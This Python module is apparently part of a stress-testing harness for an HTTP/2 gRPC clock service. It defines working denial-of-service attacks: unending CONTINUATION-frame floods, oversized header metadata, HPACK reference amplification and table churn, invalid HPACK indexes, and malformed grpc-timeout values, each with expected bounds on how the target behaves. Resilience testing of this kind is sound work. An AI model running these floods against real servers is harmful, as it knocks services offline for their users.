"""Attacks by header blocks."""

import h2
from attack import Bounds, attack, flood
from attacks.connections import GET_TIME
from attacks.floods import SILENCED


def block_in_parts(connection, parts):
    """Opens a call whose block goes on and on; after the last part it is still not over."""
    (stream,) = connection.streams(1)
    return h2.open_call(stream, GET_TIME, flags=0) + b"".join(
        h2.frame(h2.CONTINUATION, 0, stream, part) for part in parts)


@attack(bounds=SILENCED)
def continuation_flood(target, until):
    """a header block of CONTINUATION frames that does not end"""
    part = b"".join(h2.literal(f"x-{number}", "y" * 100) for number in range(100))
    return flood(target, until, lambda connection: (
        block_in_parts(connection, []) if connection.next_stream == 1
        else h2.frame(h2.CONTINUATION, 0, 1, part) * 10))


@attack(bounds=SILENCED)
def empty_continuation_flood(target, until):
    """a header block of CONTINUATION frames with nothing in them"""
    return flood(target, until, lambda connection: (
        block_in_parts(connection, []) if connection.next_stream == 1
        else h2.frame(h2.CONTINUATION, 0, 1) * 1000))


@attack(bounds=Bounds(growth_mib=600, answered=0.0, probed=0.0))
def huge_metadata(target, until):
    """calls with 8 MiB of metadata each, in CONTINUATION frames of 6 KiB, on 16 connections"""
    part = h2.literal("x-padding", "y" * 6_000)
    opened = []
    for _ in until.times(16):
        opened.append(h2.Connection(target.data).hello(until))
        connection = opened[-1]
        connection.send(until, block_in_parts(connection, []))
    sent = 0
    for _ in until.times(1400):
        for each in opened:
            if each.alive:
                sent += each.send(until, h2.frame(h2.CONTINUATION, 0, 1, part))
    while not until.over:
        until.wait(0.5)
    return {"frames": sent, "kept open": sum(each.alive for each in opened)}


@attack(bounds=SILENCED)
def hpack_references(target, until):
    """a header of 3.5 KiB put into the host's table once, and referred to 4,000 times a call"""
    def burst(connection):
        (stream,) = connection.streams(1)
        block = GET_TIME + h2.literal("x-large", "y" * 3500, indexed=True) + h2.index(62) * 4000
        return h2.open_call(stream, block, h2.END_HEADERS | h2.END_STREAM)
    return flood(target, until, burst)


@attack(bounds=SILENCED)
def hpack_table_changes(target, until):
    """header blocks that change the size of the host's table and fill it anew"""
    def burst(connection):
        filling = b"".join(h2.literal(f"x-{number}", "y" * 40, indexed=True)
                           for number in range(40))
        block = h2.table_size(0) + h2.table_size(4096) + GET_TIME + filling
        return b"".join(h2.open_call(stream, block, h2.END_HEADERS | h2.END_STREAM)
                        for stream in connection.streams(10))
    return flood(target, until, burst)


@attack(bounds=SILENCED)
def bad_hpack(target, until):
    """header blocks that refer to what is not in the table"""
    def burst(connection):
        return b"".join(h2.open_call(stream, GET_TIME + h2.index(4000))
                        for stream in connection.streams(10))
    return flood(target, until, burst)


@attack(bounds=SILENCED)
def bad_timeouts(target, until):
    """calls with values of grpc-timeout that are none, negative, or beyond all time"""
    values = ("", "1", "S", "-1S", "1X", "99999999H", "999999999999999999H", "0n", "1.5S", "1 S",
              "\x00S", "00000000000000000001S", "18446744073709551616m", "0H")
    blocks = [h2.call_headers("/mainspring.clock.v1.Clock/GetTime", ("grpc-timeout", value))
              for value in values]

    def burst(connection):
        return b"".join(h2.whole_call(stream, blocks[stream // 2 % len(blocks)])
                        for stream in connection.streams(10 * len(blocks)))
    return flood(target, until, burst)
